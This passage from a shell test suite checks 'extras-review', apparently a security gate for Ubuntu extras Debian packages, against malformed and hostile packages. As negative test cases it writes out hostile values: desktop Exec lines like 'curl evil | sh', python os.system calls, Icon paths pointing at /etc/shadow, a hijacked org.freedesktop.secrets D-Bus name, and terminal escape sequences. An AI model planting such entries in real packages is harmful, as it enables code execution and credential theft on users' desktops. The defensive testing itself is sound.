	grep_q "invalid character .x. in archive .bad/arsize.deb. member .control.tar[.a-z]*. size" out
'

test_expect_success 'bad input: a .changes with a stanza after its signature' '
	mkdir -p signed && cp good.deb signed/extras-demo_1.0_all.deb &&
	sum=$(sha256sum signed/extras-demo_1.0_all.deb | cut -d" " -f1) &&
	md5=$(md5sum signed/extras-demo_1.0_all.deb | cut -d" " -f1) &&
	size=$(stat -c %s signed/extras-demo_1.0_all.deb) &&
	cat >signed/c.changes <<-EOF &&
	-----BEGIN PGP SIGNED MESSAGE-----
	Hash: SHA256

	Format: 1.8
	Source: extras-demo
	Binary: extras-demo
	Architecture: all
	Version: 1.0
	Distribution: unstable
	Maintainer: Demo Author <demo@example.org>
	Changes:
	 extras-demo (1.0) unstable; urgency=medium
	Checksums-Sha256:
	 $sum $size extras-demo_1.0_all.deb
	Files:
	 $md5 $size utils optional extras-demo_1.0_all.deb
	-----BEGIN PGP SIGNATURE-----

	iQ==
	-----END PGP SIGNATURE-----
	EOF
	extras-review signed/c.changes >out && grep_q " accepted$" out &&
	printf "\nSource: extras-evil\n" >>signed/c.changes &&
	expect_status 2 extras-review signed/c.changes 2>err &&
	grep_q "^extras-review: error: signed/c.changes:22: malformed OpenPGP signed message: text after the signature" err
'

# Bad input: exit 2 with one line naming the file.
bad missing-version 2 'error: .*missing Version field' -- \
	'field $t Version'
bad illegal-name 2 'error: .*\(Package .extras-demo!.: \|illegal package name\)' -- \
	'field $t Package extras-demo!'
bad bad-version 2 'error: .*Version .1.0:x.: epoch' -- \
	'field $t Version 1.0:x'

test_expect_success 'bad input: a truncated package' '
	size=$(stat -c %s good.deb) && head -c $((size / 2)) good.deb >truncated.deb &&
	expect_status 2 extras-review truncated.deb 2>err &&
	grep_q "^extras-review: error: truncated.deb" err
'

test_expect_success 'bad input: a package corrupted in data.tar' '
	cp good.deb corrupt.deb &&
	at=$(grep -abo data.tar good.deb | head -n 1 | cut -d: -f1) &&
	head -c 32 /dev/zero | tr "\\0" "\\377" |
		dd of=corrupt.deb bs=1 seek=$((at + 60 + 16)) conv=notrunc 2>/dev/null &&
	expect_status 2 extras-review corrupt.deb 2>err &&
	grep_q "^extras-review: error: corrupt.deb" err
'

test_expect_success 'bad input: not a package at all' '
	echo "hello" >text.deb &&
	expect_status 2 extras-review text.deb 2>err &&
	grep_q "^extras-review: error: text.deb: not" err
'

test_expect_success 'bad input: a .changes whose package does not match its checksum' '
	mkdir -p up && cp good.deb up/extras-demo_1.0_all.deb &&
	sum=$(sha256sum up/extras-demo_1.0_all.deb | cut -d" " -f1) &&
	md5=$(md5sum up/extras-demo_1.0_all.deb | cut -d" " -f1) &&
	size=$(stat -c %s up/extras-demo_1.0_all.deb) &&
	cat >up/extras-demo_1.0_all.changes <<-EOF &&
	Format: 1.8
	Source: extras-demo
	Binary: extras-demo
	Architecture: all
	Version: 1.0
	Distribution: unstable
	Maintainer: Demo Author <demo@example.org>
	Changes:
	 extras-demo (1.0) unstable; urgency=medium
	Checksums-Sha256:
	 $sum $size extras-demo_1.0_all.deb
	Files:
	 $md5 $size utils optional extras-demo_1.0_all.deb
	EOF
	extras-review up/extras-demo_1.0_all.changes >out &&
	grep_q "accepted" out &&
	echo tampered >>up/extras-demo_1.0_all.deb &&
	expect_status 2 extras-review up/extras-demo_1.0_all.changes 2>err &&
	grep_q "^extras-review: error: .*extras-demo_1.0_all.deb" err
'

# nano and nano-tiny: each registered the alternative "editor", and both
# ship the path; dpkg will not install the second beside the first.
test_expect_success 'refused: two packages of one source ship one path' '
	t=$(case_tree same-a) && ln -s demo $t/$NS/bin/editor &&
	u=bad/same-b && rm -rf $u && mkdir -p $u/DEBIAN $u/$NS/bin &&
	ln -s demo-tiny $u/$NS/bin/editor &&
	sed -e "s/^Package: .*/Package: extras-demo-tiny/" $t/DEBIAN/control >$u/DEBIAN/control &&
	cp $t/DEBIAN/extras.yaml $u/DEBIAN/ &&
	build $t same-a.deb && build $u same-b.deb &&
	extras-review same-a.deb >out && grep_q " accepted$" out &&
	extras-review same-b.deb >out && grep_q " accepted$" out &&
	expect_status 1 extras-review same-a.deb same-b.deb >out &&
	grep_q "same-b.deb: duplicate: $NS/bin/editor: also shipped by extras-demo, of the same source: dpkg refuses to install both" out &&
	test "$(grep -c "also shipped" out)" -eq 1 &&
	rm -rf src/same && mkdir -p src/same/debian &&
	printf "Source: extras-demo\n\nPackage: extras-demo\nArchitecture: all\n\nPackage: extras-demo-tiny\nArchitecture: all\n" \
		>src/same/debian/control &&
	cp -a $t src/same/debian/extras-demo && cp -a $u src/same/debian/extras-demo-tiny &&
	(cd src/same && expect_status 1 dh_extras_check) >src/same.out 2>&1 &&
	grep_q "debian/extras-demo-tiny: duplicate: $NS/bin/editor: also shipped by extras-demo" src/same.out &&
	unscripted $t && build $t same-a.deb &&
	scratch root && dpkg_in root --unpack same-a.deb &&
	! dpkg_in root --unpack same-b.deb 2>err &&
	grep_q "trying to overwrite .*/bin/editor" err
'

test_expect_success 'accepted: one path of two packages, when one Replaces the other as dpkg reads it' '
	t=$(case_tree same-a) && ln -s demo $t/$NS/bin/editor && build $t same-a.deb &&
	unscripted $t && build $t same-a-unscripted.deb &&
	u=bad/same-b && field $u Replaces "extras-demo (<< 1.0.1)" && build $u same-b.deb &&
	extras-review same-a.deb same-b.deb >out &&
	test "$(grep -c " accepted$" out)" -eq 2 &&
	scratch root && dpkg_in root --unpack same-a-unscripted.deb &&
	dpkg_in root --unpack same-b.deb &&
	field $u Replaces "extras-demo (<< 1.0)" && build $u same-b.deb &&
	expect_status 1 extras-review same-a.deb same-b.deb >out &&
	grep_q "same-b.deb: duplicate: $NS/bin/editor: also shipped by extras-demo" out &&
	scratch root && dpkg_in root --unpack same-a-unscripted.deb &&
	! dpkg_in root --unpack same-b.deb 2>/dev/null
'

test_expect_success 'refused: a file of one package where another of the source has a directory' '
	u=bad/same-dir && rm -rf $u && mkdir -p $u/DEBIAN $u/$NS/share &&
	echo file >$u/$NS/share/demo &&
	sed -e "s/^Package: .*/Package: extras-demo-tiny/" bad/same-a/DEBIAN/control >$u/DEBIAN/control &&
	cp bad/same-a/DEBIAN/extras.yaml $u/DEBIAN/ && build $u same-dir.deb &&
	expect_status 1 extras-review same-a.deb same-dir.deb >out &&
	grep_q "same-dir.deb: duplicate: $NS/share/demo: also shipped by extras-demo" out &&
	scratch root && dpkg_in root --unpack same-a-unscripted.deb &&
	! dpkg_in root --unpack same-dir.deb 2>/dev/null
'

# m4-doc and diffutils-doc: debhelper (compat 11 on) installs a -doc
# package's files in its main package's documentation directory.
test_expect_success 'a -doc package documents in its main package'"'"'s directory, beside it and of its source only' '
	t=$(case_tree doc-main) && build $t doc-main.deb &&
	unscripted $t && build $t doc-main-unscripted.deb &&
	u=bad/doc-doc && rm -rf $u && mkdir -p $u/DEBIAN $u/usr/share/doc/extras-demo/html &&
	echo "<p>manual</p>" >$u/usr/share/doc/extras-demo/html/index.html &&
	sed -e "s/^Package: .*/Package: extras-demo-doc/" $t/DEBIAN/control >$u/DEBIAN/control &&
	cp $t/DEBIAN/extras.yaml $u/DEBIAN/ && build $u doc-doc.deb &&
	extras-review doc-main.deb doc-doc.deb >out &&
	test "$(grep -c " accepted$" out)" -eq 2 &&
	scratch root && dpkg_in root --unpack doc-main-unscripted.deb doc-doc.deb &&
	test -f root/usr/share/doc/extras-demo/html/index.html &&
	test -f root/usr/share/doc/extras-demo/copyright &&
	expect_status 1 extras-review doc-doc.deb >out &&
	grep_q "doc-doc.deb: namespace: usr/share/doc/extras-demo: belongs to another package" out &&
	scratch root && dpkg_in root --unpack doc-doc.deb &&
	test -f root/usr/share/doc/extras-demo/html/index.html &&
	field $u Source extras-other && build $u doc-other.deb &&
	expect_status 1 extras-review doc-main.deb doc-other.deb >out &&
	grep_q "doc-other.deb: namespace: usr/share/doc/extras-demo: belongs to another package" out &&
	sed -i "s/^Package: .*/Package: extras-demo-docs/" $u/DEBIAN/control &&
	field $u Source extras-demo && build $u doc-docs.deb &&
	expect_status 1 extras-review doc-docs.deb >out &&
	grep_q "belongs to another package: an export must be extras-demo-docs'"'"'s own" out
'

test_expect_success 'relations between packages of one source: accepted together only' '
	t=$(case_tree sib-a) && field $t Breaks "extras-demo-data (<< 1.0)" &&
	u=bad/sib-b && rm -rf $u && mkdir -p $u/DEBIAN $u/$NS/share/demo &&
	echo more >$u/$NS/share/demo/more.txt &&
	sed -e "s/^Package: .*/Package: extras-demo-data/" $t/DEBIAN/control >$u/DEBIAN/control &&
	cp $t/DEBIAN/extras.yaml $u/DEBIAN/ &&
	build $t sib-a.deb && build $u sib-b.deb &&
	extras-review sib-a.deb sib-b.deb >out &&
	test "$(grep -c " accepted$" out)" -eq 2 &&
	expect_status 1 extras-review sib-a.deb >out &&
	grep_q ": relation: Breaks: extras-demo-data: not a package of the source" out
'

test_expect_success 'packages of one source in two namespaces are refused' '
	u=bad/sib-b && printf "app: other\n" >$u/DEBIAN/extras.yaml &&
	mkdir -p $u/opt/extras.ubuntu.com/other && mv $u/$NS/share $u/opt/extras.ubuntu.com/other/ &&
	rm -rf $u/$NS && build $u sib-c.deb &&
	expect_status 1 extras-review good.deb sib-c.deb >out &&
	grep_q "sib-c.deb: name: namespace /opt/extras.ubuntu.com/other differs from /opt/extras.ubuntu.com/demo of extras-demo" out
'

# Exports, judged by what they make the desktop do: each lands where the
# desktop reads it (the scratch root shows where), and the desktop, D-Bus
# or a software centre would act on it for every program of the session.
APPS=usr/share/applications
SERVICES=usr/share/dbus-1/services

# entry TREE FILE LINE...: exported key file FILE (under usr/share) of TREE.
entry () {
	t=$1 f=$2; shift 2 &&
	mkdir -p "$(dirname "$t/usr/share/$f")" &&
	printf '%s\n' "$@" >"$t/usr/share/$f"
}

bad exec-shell 1 ': export: '"$APPS"'/extras-demo.desktop: line 2: Exec=sh: runs a program outside the namespace /'"$NS"', which no profile confines' -- \
	'entry $t applications/extras-demo.desktop "[Desktop Entry]" "Exec=sh -c \"curl evil | sh\"" "Type=Application"'
bad exec-action-python 1 ': export: '"$APPS"'/extras-demo.desktop: line 4: Exec=/usr/bin/python3: runs a program outside the namespace' -- \
	'entry $t applications/extras-demo.desktop "[Desktop Entry]" "Exec=/$NS/bin/demo" \
		"[Desktop Action evil]" "Exec=/usr/bin/python3 -c \"import os; os.system(1)\""'
bad exec-env-shell 1 ': export: .*line 2: Exec=sh: runs a program outside the namespace' -- \
	'entry $t applications/extras-demo.desktop "[Desktop Entry]" "Exec=env LANG=C sh -c id"'
bad exec-indented 1 ': export: .*line 3: Exec=sh: runs a program outside' -- \
	'entry $t applications/extras-demo.desktop "[Desktop Entry]" "Exec=/$NS/bin/demo" "   Exec = sh -c id"'
bad exec-relative 1 ': export: .*line 2: Exec=bin/demo: runs a program outside the namespace' -- \
	'entry $t applications/extras-demo.desktop "[Desktop Entry]" "Exec=bin/demo"'
bad exec-dotdot 1 ': export: .*line 2: Exec=/'"$NS"'/bin/../../../../usr/bin/python3: not a canonical path' -- \
	'entry $t applications/extras-demo.desktop "[Desktop Entry]" "Exec=/$NS/bin/../../../../usr/bin/python3 -c id"'
bad exec-link-out 1 ': export: .*line 2: Exec=/'"$NS"'/bin/py: leads to /usr/bin/python3, outside the namespace' -- \
	'ln -s /usr/bin/python3 $t/$NS/bin/py &&
	 entry $t applications/extras-demo.desktop "[Desktop Entry]" "Exec=/$NS/bin/py -c id"'
bad exec-single-quotes 1 ': export: .*line 2: Exec=: the program .*bin/demo.* holds a reserved character outside quotes' -- \
	'entry $t applications/extras-demo.desktop "[Desktop Entry]" "Exec='"'"'/$NS/bin/demo'"'"'"'
bad exec-field-code 1 ': export: .*line 2: Exec=: the program .%f. holds a field code' -- \
	'entry $t applications/extras-demo.desktop "[Desktop Entry]" "Exec=%f"'
bad dbus-exec-shell 1 ': export: '"$SERVICES"'/org.example.demo.service: line 3: Exec=/bin/sh: runs a program outside the namespace' -- \
	'entry $t dbus-1/services/org.example.demo.service "[D-BUS Service]" "Name=org.example.demo" "Exec=/bin/sh -c id"'
bad dbus-name-secrets 1 ': export: .*line 2: Name=org.freedesktop.secrets: not the app.s own: end it in .demo (org.example.demo), or declare it under bus-names:' -- \
	'entry $t dbus-1/services/org.freedesktop.secrets.service "[D-BUS Service]" "Name=org.freedesktop.secrets" "Exec=/$NS/bin/demo"'
bad dbus-name-desktop 1 ': export: .*line 2: Name=org.freedesktop.Demo: a name of the desktop (org.freedesktop.\*).*reserved privilege desktop-names' -- \
	'entry $t dbus-1/services/org.freedesktop.Demo.service "[D-BUS Service]" "Name=org.freedesktop.Demo" "Exec=/$NS/bin/demo"'
bad dbus-systemd 1 ': export: .*line 4: SystemdService=: an app.s session service is started by D-Bus alone' -- \
	'entry $t dbus-1/services/org.example.Demo.service "[D-BUS Service]" "Name=org.example.Demo" "Exec=/$NS/bin/demo" "SystemdService=gnome-terminal-server.service"'
# Two files of any names could both say Name=org.example.Demo, and D-Bus
# would start whichever it read first: the file is named after the name,
# whose path the registry holds for one app.
bad dbus-file-name 1 ': export: '"$SERVICES"'/extras-demo.service: line 2: Name=org.example.Demo: in a file named extras-demo.service: a session service.s file is named after the bus name it owns.*name it org.example.Demo.service' -- \
	'entry $t dbus-1/services/extras-demo.service "[D-BUS Service]" "Name=org.example.Demo" "Exec=/$NS/bin/demo"'
bad mime-https 1 ': export: .*line 3: MimeType=X-Scheme-Handler/HTTPS: claims what other programs rely on.*reserved privilege url-handlers' -- \
	'entry $t applications/extras-demo.desktop "[Desktop Entry]" "Exec=/$NS/bin/demo %u" "MimeType=text/plain;X-Scheme-Handler/HTTPS;"'
bad metainfo-id 1 ': export: usr/share/metainfo/extras-demo.metainfo.xml: line 3: <id> org.gnome.Nautilus: not the app.s own' -- \
	'entry $t metainfo/extras-demo.metainfo.xml "<?xml version=\"1.0\"?>" "<component type=\"desktop-application\">" \
		"  <id>org.gnome.Nautilus</id>" "</component>"'
bad metainfo-file-name 1 ': export: usr/share/metainfo/extras-demo.metainfo.xml: line 3: <id> extras-org.example.Demo: in a file named extras-demo.metainfo.xml: a component.s file is named after its id.*name it extras-org.example.Demo.metainfo.xml' -- \
	'entry $t metainfo/extras-demo.metainfo.xml "<?xml version=\"1.0\"?>" "<component type=\"desktop-application\">" \
		"  <id>extras-org.example.Demo</id>" "</component>"'
bad metainfo-replaces 1 ': export: .*extras-demo.metainfo.xml: line 4: <replaces> org.gnome.Nautilus: not the app.s own' -- \
	'entry $t metainfo/extras-demo.metainfo.xml "<?xml version=\"1.0\"?>" "<component type=\"desktop-application\">" \
		"  <id>extras-org.example.Demo</id>" "  <replaces><id>org.gnome.Nautilus</id></replaces>" "</component>"'
# Every extras- id is held with its metainfo file by the app exporting
# it: declared under ids:, another app's would let this one hide it.
bad metainfo-replaces-extras 1 ': export: usr/share/metainfo/extras-demo.metainfo.xml: line 4: <replaces> extras-org.example.Victim: an extras component the upload does not export' -- \
	'printf "app: demo\nprivileges:\n  - network\nids: [org.example.Victim]\n" >$t/DEBIAN/extras.yaml &&
	entry $t metainfo/extras-demo.metainfo.xml "<?xml version=\"1.0\"?>" "<component type=\"desktop-application\">" \
		"  <id>extras-demo</id>" "  <replaces><id>extras-org.example.Victim</id></replaces>" "</component>"'
bad icon-shadow 1 ': export: .*line 3: Icon=/etc/shadow: neither an icon name nor a file of the namespace' -- \
	'entry $t applications/extras-demo.desktop "[Desktop Entry]" "Exec=/$NS/bin/demo" "Icon=/etc/shadow"'
bad icon-dotdot 1 ': export: .*line 3: Icon\[fr\]=/'"$NS"'/../../../etc/shadow: neither an icon name' -- \
	'entry $t applications/extras-demo.desktop "[Desktop Entry]" "Exec=/$NS/bin/demo" "Icon[fr]=/$NS/../../../etc/shadow"'

test_expect_success 'env takes a word holding = for a variable: that word is never the program' '
	test "$(env /tmp/x=1 echo ran)" = ran &&
	t=$(case_tree exec-env-equals) && : >"$t/$NS/bin/demo=1" && chmod 755 "$t/$NS/bin/demo=1" &&
	entry $t applications/extras-demo.desktop "[Desktop Entry]" "Exec=env /$NS/bin/demo=1 sh -c id" &&
	refused exec-env-equals 1 ": export: .*line 2: Exec=sh: runs a program outside"
'

test_expect_success 'dpkg: a hostile entry point lands where the desktop reads it' '
	t=$(case_tree exec-dpkg) && unscripted $t &&
	entry $t applications/extras-demo.desktop "[Desktop Entry]" "Exec=sh -c \"curl evil | sh\"" &&
	entry $t dbus-1/services/org.freedesktop.secrets.service "[D-BUS Service]" \
		"Name=org.freedesktop.secrets" "Exec=/bin/sh -c id" &&
	build $t exec-dpkg.deb && expect_status 1 extras-review exec-dpkg.deb >out &&
	test "$(grep -c ": export: " out)" -eq 3 &&
	scratch root && dpkg_in root --unpack exec-dpkg.deb &&
	grep_q "^Exec=sh -c \"curl evil | sh\"$" root/$APPS/extras-demo.desktop &&
	grep_q "^Name=org.freedesktop.secrets$" root/$SERVICES/org.freedesktop.secrets.service
'

test_expect_success 'accepted: entry points of the app, names it holds, by declaration or privilege' '
	t=$(case_tree exports-right) &&
	entry $t applications/extras-demo.desktop "[Desktop Entry]" \
		"Exec=/usr/bin/env GSETTINGS_SCHEMA_DIR=/$NS/share/glib-2.0/schemas \"/$NS/bin/demo\" %U" \
		"Icon=/$NS/share/demo/data.txt" "MimeType=text/plain;x-scheme-handler/demo;" \
		"[Desktop Action new]" "Exec=env A=1 /$NS/bin/demo --new" &&
	entry $t dbus-1/services/org.example.Demo.service "[D-BUS Service]" \
		"Name=org.example.Demo" "Exec=/$NS/bin/demo --gapplication-service" &&
	entry $t dbus-1/services/com.example.Tool.service "[D-BUS Service]" \
		"Name=com.example.Tool" "Exec=/$NS/bin/demo --tool" &&
	entry $t metainfo/extras-org.example.Demo.metainfo.xml "<?xml version=\"1.0\"?>" \
		"<component type=\"desktop-application\">" "  <id>extras-org.example.Demo</id>" \
		"  <replaces><id>org.example.OldDemo</id></replaces>" \
		"  <provides><id>extras-com.example.Tool</id></provides>" "</component>" &&
	entry $t metainfo/extras-com.example.Tool.metainfo.xml "<?xml version=\"1.0\"?>" \
		"<component type=\"console-application\">" "  <id>extras-com.example.Tool</id>" "</component>" &&
	printf "app: demo\nprivileges:\n  - network\nbus-names: [com.example.Tool]\nids: [org.example.OldDemo, com.example.Tool]\n" \
		>$t/DEBIAN/extras.yaml &&
	build $t exports-right.deb && extras-review exports-right.deb >out &&
	grep_q " accepted$" out &&
	source_tree $t src/exports-right && (cd src/exports-right && dh_extras_check) &&
	entry $t applications/extras-demo.desktop "[Desktop Entry]" "Exec=/$NS/bin/demo %u" \
		"MimeType=x-scheme-handler/https;" &&
	entry $t dbus-1/services/org.freedesktop.Demo.service "[D-BUS Service]" \
		"Name=org.freedesktop.Demo" "Exec=/$NS/bin/demo" &&
	printf "app: demo\nprivileges:\n  - network\n  - url-handlers\n  - desktop-names\nbus-names: [com.example.Tool]\nids: [org.example.OldDemo, com.example.Tool]\n" \
		>$t/DEBIAN/extras.yaml &&
	extras-profile --allow-reserved --app demo --executable /$NS/bin/demo $t/DEBIAN/extras.yaml >$t/$PROFILE &&
	build $t exports-granted.deb &&
	extras-review --allow-reserved exports-granted.deb >out && grep_q " accepted$" out &&
	extras-review --grant desktop-names --grant url-handlers exports-granted.deb >out &&
	grep_q " accepted$" out &&
	expect_status 1 extras-review exports-granted.deb >out &&
	grep_q ": profile: .*reserved" out &&
	expect_status 1 extras-review --grant url-handlers exports-granted.deb >out &&
	grep_q ": profile: .*privilege .desktop-names. is reserved and not allowed here" out
'

# Fields and members as dpkg and the archive treat them.
bad important 1 ': control: Important: yes: an extras package cannot be Important' -- \
	'field $t Important yes'
bad package-type 1 ': control: Package-Type: udeb: an extras package is a deb' -- \
	'field $t Package-Type udeb'
bad description-escape 1 ': control: Description: line [0-9]*: an escape character (0x1b), which a terminal showing the field would act on' -- \
	'printf " \033]0;owned\007\033[2J\n" >>$t/DEBIAN/control'
bad maintainer-c1 1 ': control: Maintainer: line [0-9]*: a C1 control character (0xc2)' -- \
	'field $t Maintainer "$(printf "A \302\233""2J <a@example.org>")"'
bad newline-member 1 ': member: '"$NS"'/share/demo/evil.x0aname: a newline in the name: dpkg refuses the package' -- \
	'touch "$t/$NS/share/demo/evil
name"'

test_expect_success 'dpkg: keeps Important and Package-Type, and prints the escape sequences' '
	t=$(case_tree odd-dpkg) && unscripted $t &&
	field $t Important yes && field $t Package-Type udeb &&
	printf " \033[2Jcleared\n" >>$t/DEBIAN/control &&
	build $t odd-dpkg.deb && expect_status 1 extras-review odd-dpkg.deb >out &&
	test "$(grep -c ": control: " out)" -eq 3 &&
	scratch root && dpkg_in root --unpack odd-dpkg.deb &&
	dpkg_in root -s extras-demo >status &&
	grep_q "^Important: yes$" status && grep_q "^Package-Type: udeb$" status &&
	test "$(grep -c "$(printf "\033")" status)" -eq 1
'

test_expect_success 'dpkg: refuses a package with a newline in a member name, as the gate does' '
	t=$(case_tree newline-dpkg) && unscripted $t && touch "$t/$NS/share/demo/a
b" &&
	build $t newline-dpkg.deb && expect_status 1 extras-review newline-dpkg.deb >out &&
	test "$(grep -c ": member: $NS/share/demo/a.x0ab: a newline in the name" out)" -eq 1 &&
	scratch root && ! dpkg_in root --unpack newline-dpkg.deb 2>err &&
	grep_q "newline not allowed in archive object name" err
'

# changes DIR DIST FILE...: DIR/up.changes for DIST, listing the FILEs
# beside it.
changes () {
	d=$1 dist=$2; shift 2 &&
	{ printf "%s\n" "Format: 1.8" "Source: extras-demo" "Binary: extras-demo" \
		"Architecture: all" "Version: 1.0" "Distribution: $dist" \
		"Maintainer: Demo Author <demo@example.org>" "Changes:" \
		" extras-demo (1.0) $dist; urgency=medium" "Checksums-Sha256:" &&
	  for f; do
		echo " $(sha256sum <"$d/$f" | cut -d" " -f1) $(stat -c %s "$d/$f") $f" || return 1
	  done &&
	  echo "Files:" &&
	  for f; do
		echo " $(md5sum <"$d/$f" | cut -d" " -f1) $(stat -c %s "$d/$f") utils optional $f" || return 1
	  done
	} >"$d/up.changes"
}

test_expect_success 'a .changes: every file it lists read or refused' '
	rm -rf listed && mkdir listed && cp good.deb listed/extras-demo_1.0_all.deb &&
	echo "Format: 1.0" >listed/extras-demo_1.0_amd64.buildinfo &&
	changes listed unstable extras-demo_1.0_all.deb extras-demo_1.0_amd64.buildinfo &&
	extras-review listed/up.changes >out && grep_q " accepted$" out &&
	cp good.deb listed/extras-demo-udeb_1.0_all.udeb &&
	changes listed unstable extras-demo_1.0_all.deb extras-demo-udeb_1.0_all.udeb &&
	expect_status 1 extras-review listed/up.changes >out &&
	grep_q "extras-demo_1.0_all.deb: changes: listed/up.changes lists extras-demo-udeb_1.0_all.udeb, an installer package (udeb)" out &&
	echo "Format: 3.0 (native)" >listed/extras-demo_1.0.dsc &&
	changes listed unstable extras-demo_1.0_all.deb extras-demo_1.0.dsc &&
	expect_status 1 extras-review listed/up.changes >out &&
	grep_q ": changes: listed/up.changes lists extras-demo_1.0.dsc, which is not a binary package the gate reviews" out
'

test_expect_success 'a .changes: released, and for the store.s distribution when given' '
	changes listed UNRELEASED extras-demo_1.0_all.deb &&
	expect_status 1 extras-review listed/up.changes >out &&
	grep_q ": changes: listed/up.changes: Distribution: UNRELEASED: the changelog entry is not released" out &&
	changes listed unstable extras-demo_1.0_all.deb &&
	extras-review listed/up.changes >out && grep_q " accepted$" out &&
	expect_status 1 extras-review --distribution extras listed/up.changes >out &&
	grep_q "Distribution: unstable: the store publishes to extras: release for it (dch -r -D extras)" out &&
	changes listed extras extras-demo_1.0_all.deb &&
	extras-review --distribution extras listed/up.changes >out && grep_q " accepted$" out &&
	expect_status 2 extras-review --distribution "a b" listed/up.changes 2>err &&
	grep_q "not one word" err
'

# An app named after another program's directory (~/.config), its profile
# generated from templates whose list of reserved ids lacks the name: the
# gate generates it again with the real list and refuses.
test_expect_success 'refused: an app id reserved for another program.s files' '
	mkdir -p unlisted && cp -R "$TEMPLATES" unlisted/ &&
	sed -i "/^config /d" unlisted/templates/identity/reserved-apps &&
	r=opt/extras.ubuntu.com/config && t=reserved &&
	mkdir -p $t/DEBIAN $t/$r/bin $t/usr/share/doc/extras-config \
		$t/etc/apparmor.d &&
	printf "#!/bin/sh\necho x\n" >$t/$r/bin/config && chmod 755 $t/$r/bin/config &&
	echo "Copyright: nobody" >$t/usr/share/doc/extras-config/copyright &&
	printf "app: config\nprivileges: []\n" >$t/DEBIAN/extras.yaml &&
	DH_EXTRAS_DATADIR=$TRASH/unlisted extras-profile --app config \
		--executable /$r/bin/config $t/DEBIAN/extras.yaml \
		>$t/etc/apparmor.d/opt.extras.ubuntu.com.config &&
	grep_q "^  owner @{HOME}/.\[cC\]\[oO\]\[nN\]\[fF\]\[iI\]\[gG\]/ rw,$" $t/etc/apparmor.d/opt.extras.ubuntu.com.config &&
	printf "Package: extras-config\nSource: extras-config\nVersion: 1.0\nArchitecture: all\nMaintainer: A <a@example.org>\nPriority: optional\nDepends: apparmor (>= 3.0), libc6\nDescription: x\n x\n" \
		>$t/DEBIAN/control &&
	echo /etc/apparmor.d/opt.extras.ubuntu.com.config >$t/DEBIAN/conffiles &&
	for s in postinst postrm; do
		DH_EXTRAS_DATADIR=$TRASH/unlisted extras-profile --app config \
			--script $s --package extras-config $t/DEBIAN/extras.yaml \
			>$t/DEBIAN/$s && chmod 755 $t/DEBIAN/$s || return 1
	done &&
	build $t reserved.deb &&
	expect_status 1 extras-review reserved.deb >out &&
	grep_q "^reserved.deb: profile: etc/apparmor.d/opt.extras.ubuntu.com.config: cannot be generated again: app id .config. is reserved: the name holds the XDG configuration directory (~/.config)" out &&
	grep_q "refused (1 problem)" out
'

test_expect_success 'the corpus holds at least 25 bad packages' '
	test $n -ge 25
'

test_done
